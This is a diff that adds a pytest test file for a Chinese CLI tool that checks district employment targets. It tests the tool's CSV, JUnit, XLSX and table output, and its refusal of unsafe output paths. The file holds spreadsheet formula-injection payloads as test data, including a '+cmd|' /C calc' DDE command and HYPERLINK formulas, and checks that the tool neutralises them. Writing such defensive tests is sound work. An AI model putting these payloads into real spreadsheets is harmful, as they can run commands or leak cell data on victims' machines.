@@ -1,0 +1,423 @@
+"""check --format / --output: every format against golden files, read back with real parsers;
+formula injection; output paths that must be refused, with nothing written."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import shutil
+import xml.etree.ElementTree as ET
+
+import openpyxl
+import pytest
+
+from conftest import FIXTURES, GOLDEN, ROOT, SAMPLE, run
+from regen_golden import CASES, produce
+
+from chuangye_cli.render import FORMATS, TABLE_FORMATS
+from chuangye_cli.render.csv import neutralise
+from chuangye_cli.report import FAILING
+
+SMALL = FIXTURES / "check"
+SMALL_TARGETS = SMALL / "targets_small.yaml"
+BAD = FIXTURES / "formats" / "bad.csv"
+
+
+@pytest.fixture
+def at_root(monkeypatch):
+    """Run from the repository root, so file names in the output are as in the golden files."""
+    monkeypatch.chdir(ROOT)
+
+
+def sample_json(lang: str = "zh") -> dict:
+    return json.loads((GOLDEN / f"check_sample_{lang}.json").read_text(encoding="utf-8"))
+
+
+def failing(data: dict) -> int:
+    return sum(1 for r in data["results"] if r["status"] in FAILING)
+
+
+def files_in(folder) -> list[str]:
+    return sorted(os.listdir(folder))
+
+
+# --------------------------------------------------------------------------- golden files
+
+
+@pytest.mark.parametrize("name", sorted(n for n in CASES if "by_district" not in n))
+def test_golden(name):
+    data, code = produce(name)
+    assert code == 1  # the sample misses a target (service rate) and a district lags (商河县 incubators)
+    assert data == (GOLDEN / name).read_bytes()
+
+
+def test_golden_json_is_the_json_format_of_the_sample(at_root):
+    result = run("check", "sample_data", "--format", "json")
+    data = json.loads(result.stdout)
+    assert data == sample_json()
+    assert data["summary"] == {"met": 16, "on_track": 8, "pending": 2, "behind": 2, "not_met": 0, "no_data": 0}
+    assert "by_district" not in data
+
+
+# --------------------------------------------------------------------------- csv
+
+
+@pytest.mark.parametrize("lang", ["zh", "en"])
+def test_csv_reads_back_one_row_per_result(at_root, lang):
+    result = run("check", "sample_data", "--format", "csv", "--lang", lang)
+    assert result.exit_code == 1
+    raw = result.stdout_bytes
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel opens the Chinese right
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    data = sample_json()
+    assert len(rows) == 1 + len(data["results"])
+    header = rows[0]
+    if lang == "zh":
+        assert header[:4] == ["类型", "目标编号", "目标", "行政区划代码"]
+    else:
+        assert header[:4] == ["Type", "Target id", "Target", "District code"]
+    records = [dict(zip(header, r)) for r in rows[1:]]
+    key = {"zh": ("目标编号", "行政区划代码", "实际", "状态代码", "状态"), "en": ("Target id", "District code", "Actual", "Status code", "Status")}[lang]
+    for rec, res in zip(records, data["results"]):
+        assert rec[key[0]] == res["target"]
+        assert rec[key[1]] == (res["district_code"] or "")
+        assert rec[key[3]] == res["status"]
+        if isinstance(res["actual"], (int, float)):
+            assert float(rec[key[2]]) == res["actual"]  # exact, not rounded for display
+    city = records[0]
+    assert (city[key[0]], city[key[2]], city[key[4]]) == ("participants", "17370", "符合序时进度" if lang == "zh" else "on track")
+    level = next(r for r in records if r[key[0]] == "provincial_standard_others" and r[key[1]] == "370124")
+    assert level[key[2]] == ("未达到" if lang == "zh" else "not attained")
+
+
+def test_csv_with_invalid_input_has_only_the_header_and_errors_on_stderr():
+    result = run("check", BAD, "--targets", SMALL_TARGETS, "--format", "csv", "--lang", "en")
+    assert result.exit_code == 3
+    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"), newline="")))
+    assert len(rows) == 1 and rows[0][0] == "Type"
+    assert "3 error(s)" in result.stderr
+    assert "no verdict" in result.stderr
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("http://x","y")', "'=HYPERLINK(\"http://x\",\"y\")"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("-", "'-"),
+        ("-inf", "'-inf"),
+        ("-5", "-5"),
+        ("+86", "+86"),
+        ("-1,234.5", "-1,234.5"),
+        ("-1.5e3", "-1.5e3"),
+        ("-12%", "-12%"),
+        ("历下区", "历下区"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-5, -5),
+        (0.93, 0.93),
+        (None, None),
+    ],
+)
+def test_neutralise(value, expected):
+    assert neutralise(value) == expected
+
+
+# --------------------------------------------------------------------------- junit
+
+
+def parse_junit(data: bytes) -> ET.Element:
+    root = ET.fromstring(data)
+    assert root.tag == "testsuites"
+    return root
+
+
+@pytest.mark.parametrize("lang", ["zh", "en"])
+def test_junit_failures_are_the_failing_results(at_root, lang):
+    result = run("check", "sample_data", "--format", "junit", "--lang", lang)
+    assert result.exit_code == 1
+    root = parse_junit(result.stdout_bytes)
+    data = sample_json()
+    failures = root.findall(".//failure")
+    assert len(failures) == failing(data) == 2
+    assert root.get("failures") == "2"
+    assert int(root.get("tests")) == len(data["results"]) + len(data["files"]) == 28 + 15
+    targets = root.find("testsuite[@name='targets']")
+    assert len(targets.findall("testcase")) == len(data["results"])
+    failed = [(c.get("classname"), c.find("failure").get("type")) for c in targets if c.find("failure") is not None]
+    assert failed == [("targets.service_rate", "behind"), ("targets.district_incubators", "behind")]
+    text = targets.find("testcase[@classname='targets.service_rate']/failure").text
+    # 99.87% is never shown as 100%
+    assert text == ("落后于序时进度：实际 99.9%，目标 >= 100%" if lang == "zh" else "behind: actual 99.9%, target >= 100%")
+    validation = root.find("testsuite[@name='validation']")
+    ok = "文件校验通过" if lang == "zh" else "file is valid"
+    assert [c.get("name") for c in validation] == [f"{f['file']} · {ok}" for f in data["files"]]
+    assert {c.get("classname") for c in validation} == {"validation"}
+
+
+def test_junit_has_a_failing_testcase_per_validation_error():
+    result = run("check", BAD, "--targets", SMALL_TARGETS, "--format", "junit", "--lang", "en")
+    assert result.exit_code == 3
+    root = parse_junit(result.stdout_bytes)  # parses: the control character in a cell was replaced
+    assert root.find("testsuite[@name='targets']") is None  # no verdict
+    cases = root.findall(".//testcase")
+    failures = root.findall(".//failure")
+    assert len(cases) == len(failures) == 3 == int(root.get("failures"))
+    assert [c.get("name") for c in cases] == [
+        f"{BAD} · row 3, column 创业培训人数",
+        f"{BAD} · row 4, column 创业指导人数",
+        f"{BAD} · row 5, column 新增就业人数",
+    ]
+    assert [f.get("type") for f in failures] == ["negative", "not-integer", "not-integer"]
+    assert all(c.get("classname") == "validation" for c in cases)
+    assert failures[0].get("message") == "must not be negative"
+    assert failures[0].text == f"{BAD}, row 3, column 创业培训人数 [-5]: must not be negative"
+    assert "12\ufffd34" in failures[2].text
+    out = root.find("testsuite[@name='validation']/system-out").text.splitlines()
+    assert len(out) == 2 and out[0].endswith("unknown column, ignored") and "@cmd" in out[0]
+
+
+# --------------------------------------------------------------------------- xlsx
+
+
+def read_xlsx(data: bytes) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(io.BytesIO(data))
+
+
+def sheet_rows(ws) -> list[list]:
+    return [[c.value for c in row] for row in ws.iter_rows()]
+
+
+@pytest.mark.parametrize("lang", ["zh", "en"])
+def test_xlsx_reads_back(at_root, lang):
+    result = run("check", "sample_data", "--format", "xlsx", "--lang", lang)
+    assert result.exit_code == 1
+    wb = read_xlsx(result.stdout_bytes)
+    names = {"zh": ["达标结果", "分县(市)区", "错误和警告"], "en": ["Results", "By district", "Errors and warnings"]}[lang]
+    assert wb.sheetnames == names
+    data = sample_json()
+    results = sheet_rows(wb[names[0]])
+    header = results[0]
+    assert header[:3] == (["目标编号", "目标", "行政区划代码"] if lang == "zh" else ["Target id", "Target", "District code"])
+    assert len(results) == 1 + len(data["results"])
+    col = {h: i for i, h in enumerate(header)}
+    actual, status = col["实际" if lang == "zh" else "Actual"], col["状态代码" if lang == "zh" else "Status code"]
+    for row, res in zip(results[1:], data["results"]):
+        assert row[0] == res["target"]
+        assert row[status] == res["status"]
+        if isinstance(res["actual"], (int, float)):
+            assert row[actual] == pytest.approx(res["actual"], rel=1e-15)  # numbers stay numbers
+    ws = wb[names[0]]
+    # a rate: the fraction with a percent format that never rounds 99.87% up to 100%
+    service = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "service_rate")
+    assert service[actual].value == pytest.approx(7465 / 7475)
+    assert service[actual].number_format == "0.0%"
+    assert next(r for r in ws.iter_rows(min_row=2) if r[0].value == "participants")[actual].number_format == "#,##0"
+    # columns sized to fit: no column narrower than its header's display width
+    from wcwidth import wcswidth
+
+    for i, h in enumerate(header):
+        letter = openpyxl.utils.get_column_letter(i + 1)
+        assert ws.column_dimensions[letter].width >= wcswidth(h)
+    name_col = openpyxl.utils.get_column_letter(2)
+    assert ws.column_dimensions[name_col].width == min(60, 2 + max(wcswidth(str(r[1])) for r in results))
+    # the per-district sheet is the matrix: a row per district, a column per city target
+    by_district = sheet_rows(wb[names[1]])
+    assert len(by_district) == 1 + 10
+    assert by_district[1][:2] == ["370102", "历下区" if lang == "zh" else "Lixia"]
+    # the errors sheet: header only (the sample is clean)
+    assert sheet_rows(wb[names[2]]) == [
+        ["类别", "文件", "行", "列", "值", "问题", "问题代码"]
+        if lang == "zh"
+        else ["Severity", "File", "Row", "Column", "Value", "Problem", "Code"]
+    ]
+
+
+def test_xlsx_errors_sheet_lists_errors_and_warnings_neutralised(tmp_path):
+    out = tmp_path / "r.xlsx"
+    result = run("check", BAD, "--targets", SMALL_TARGETS, "-o", out, "--lang", "en")
+    assert result.exit_code == 3
+    wb = openpyxl.load_workbook(out)
+    rows = sheet_rows(wb["Errors and warnings"])
+    assert rows[0] == ["Severity", "File", "Row", "Column", "Value", "Problem", "Code"]
+    assert [r[0] for r in rows[1:]] == ["error", "error", "error", "warning", "warning"]
+    assert [r[2] for r in rows[1:4]] == [3, 4, 5]
+    assert rows[1][4] == "-5"  # a number written as text is left alone
+    assert rows[2][4] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"  # a formula is not
+    assert rows[3][4] == "12\ufffd34"  # a control character Excel refuses is replaced
+    assert rows[4][3] == "'@cmd"
+    # nothing in the workbook is a formula
+    for ws in wb:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f"
+    assert sheet_rows(wb["Results"])[1:] == []
+
+
+def test_xlsx_refused_on_a_terminal(monkeypatch, tmp_path):
+    monkeypatch.setattr("chuangye_cli.render.output.stdout_is_terminal", lambda: True)
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "xlsx", "--lang", "en")
+    assert result.exit_code == 2
+    assert result.stdout_bytes == b""
+    assert result.stderr == "Error: xlsx is a binary format and is not written to a terminal; give -o FILE.xlsx\n"
+    # with -o it is fine
+    out = tmp_path / "r.xlsx"
+    assert run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "xlsx", "-o", out).exit_code == 1
+    assert openpyxl.load_workbook(out).sheetnames == ["达标结果", "分县(市)区", "错误和警告"]
+
+
+# --------------------------------------------------------------------------- table formats
+
+
+@pytest.mark.parametrize("fmt", TABLE_FORMATS)
+def test_every_table_format(fmt):
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", fmt, "--lang", "en")
+    assert result.exit_code == 1
+    assert "Training pass rate" in result.stdout and "99.7" in result.stdout  # latex writes 99.7\%
+    assert result.stderr == ""
+
+
+def test_formats_list():
+    assert {"json", "csv", "junit", "xlsx", "simple", "github", "grid", "pipe", "rst", "html", "latex", "plain"} <= set(FORMATS)
+
+
+# --------------------------------------------------------------------------- --output
+
+
+@pytest.mark.parametrize(
+    "suffix, fmt", [(".json", "json"), (".csv", "csv"), (".xml", "junit"), (".md", "github"), (".txt", "simple"), (".JSON", "json")]
+)
+def test_output_infers_format_from_extension(tmp_path, suffix, fmt):
+    out = tmp_path / f"result{suffix}"
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "-o", out)
+    assert result.exit_code == 1
+    assert result.stdout_bytes == b""
+    assert result.stderr == f"结果已写入 {out}\n"
+    direct = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", fmt)
+    assert out.read_bytes() == direct.stdout_bytes
+    assert files_in(tmp_path) == [out.name]  # no temporary file left behind
+
+
+def test_output_xlsx_from_extension(tmp_path):
+    out = tmp_path / "result.xlsx"
+    assert run("check", SMALL, "--targets", SMALL_TARGETS, "--output", out).exit_code == 1
+    assert openpyxl.load_workbook(out).sheetnames == ["达标结果", "分县(市)区", "错误和警告"]
+
+
+def test_explicit_format_wins_over_extension(tmp_path):
+    out = tmp_path / "result.txt"
+    run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "json", "-o", out)
+    assert json.loads(out.read_text(encoding="utf-8"))["as_of"] == "2009Q2"
+    out = tmp_path / "table.html"
+    run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "html", "-o", out)
+    assert "<table>" in out.read_text(encoding="utf-8")
+
+
+def test_output_replaces_an_existing_file_whole(tmp_path):
+    out = tmp_path / "result.json"
+    out.write_text("x" * 100_000, encoding="utf-8")
+    run("check", SMALL, "--targets", SMALL_TARGETS, "-o", out)
+    assert json.loads(out.read_text(encoding="utf-8"))["as_of"] == "2009Q2"
+
+
+def test_output_with_invalid_input_still_writes_the_report(tmp_path):
+    out = tmp_path / "junit.xml"
+    result = run("check", BAD, "--targets", SMALL_TARGETS, "-o", out, "--lang", "en")
+    assert result.exit_code == 3
+    assert len(parse_junit(out.read_bytes()).findall(".//failure")) == 3
+    assert "3 error(s)" in result.stderr and result.stderr.endswith(f"results written to {out}\n")
+
+
+def one_line_usage_error(result, expected: str) -> None:
+    assert result.exit_code == 2
+    assert result.stdout_bytes == b""
+    assert result.stderr == expected + "\n"
+
+
+@pytest.mark.parametrize("name", ["report.html", "report.docx", "report"])
+def test_unknown_extension_refused(tmp_path, name):
+    out = tmp_path / name
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "-o", out, "--lang", "en")
+    suffix = out.suffix or "''"
+    one_line_usage_error(
+        result,
+        f"Error: cannot tell the output format from the extension {suffix} of {out} "
+        "(known: .json .csv .xml .xlsx .md .txt); give --format",
+    )
+    assert files_in(tmp_path) == []
+
+
+def test_unknown_format_refused(tmp_path):
+    out = tmp_path / "r.json"
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "docx", "-o", out)
+    assert result.exit_code == 2
+    assert "'docx' is not one of" in result.stderr
+    assert files_in(tmp_path) == []
+
+
+def test_unwritable_outputs_refused(tmp_path):
+    missing = tmp_path / "no" / "such" / "r.json"
+    one_line_usage_error(
+        run("check", SMALL, "--targets", SMALL_TARGETS, "-o", missing, "--lang", "en"),
+        f"Error: cannot write {missing}: the folder {missing.parent} does not exist",
+    )
+    folder = tmp_path / "out.json"
+    folder.mkdir()
+    one_line_usage_error(
+        run("check", SMALL, "--targets", SMALL_TARGETS, "-o", folder, "--lang", "en"),
+        f"Error: the output path {folder} is a folder; give a file name",
+    )
+    a_file = tmp_path / "plain"
+    a_file.write_text("keep", encoding="utf-8")
+    under_file = a_file / "r.json"
+    one_line_usage_error(
+        run("check", SMALL, "--targets", SMALL_TARGETS, "-o", under_file, "--lang", "en"),
+        f"Error: cannot write {under_file}: the folder {a_file} does not exist",
+    )
+    assert files_in(tmp_path) == ["out.json", "plain"] and a_file.read_text(encoding="utf-8") == "keep"
+    assert files_in(folder) == []
+
+
+def test_input_files_are_never_overwritten(tmp_path):
+    inputs = tmp_path / "in"
+    shutil.copytree(SMALL, inputs)
+    before = {p.name: p.read_bytes() for p in inputs.iterdir()}
+    # a submission given by name, a submission found in a folder, the targets file
+    for args, out in [
+        ([inputs / "lixia.csv", inputs / "shizhong.csv"], inputs / "lixia.csv"),
+        ([inputs], inputs / "shizhong.csv"),
+        ([inputs], inputs / "targets_small.yaml"),
+    ]:
+        result = run("check", *args, "--targets", inputs / "targets_small.yaml", "--format", "csv", "-o", out, "--lang", "en")
+        one_line_usage_error(result, f"Error: {out} is an input file; it is never overwritten")
+    # also through another name for the same file
+    link = tmp_path / "link.csv"
+    link.symlink_to(inputs / "lixia.csv")
+    result = run("check", inputs, "--targets", inputs / "targets_small.yaml", "-o", link, "--lang", "en")
+    one_line_usage_error(result, f"Error: {link} is an input file; it is never overwritten")
+    assert {p.name: p.read_bytes() for p in inputs.iterdir()} == before
+
+
+def test_failed_write_leaves_nothing(tmp_path, monkeypatch):
+    def fail(src, dst):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("chuangye_cli.render.output.os.replace", fail)
+    out = tmp_path / "r.json"
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "-o", out, "--lang", "en")
+    one_line_usage_error(result, f"Error: cannot write {out}: No space left on device")
+    assert files_in(tmp_path) == []
+
+
+def test_sample_folder_untouched_by_output(tmp_path):
+    before = {p: p.read_bytes() for p in SAMPLE.rglob("*") if p.is_file()}
+    for suffix in (".json", ".csv", ".xml", ".xlsx", ".md", ".txt"):
+        assert run("check", SAMPLE, "-o", tmp_path / f"r{suffix}").exit_code == 1
+    assert {p: p.read_bytes() for p in SAMPLE.rglob("*") if p.is_file()} == before
+    assert len(files_in(tmp_path)) == 6
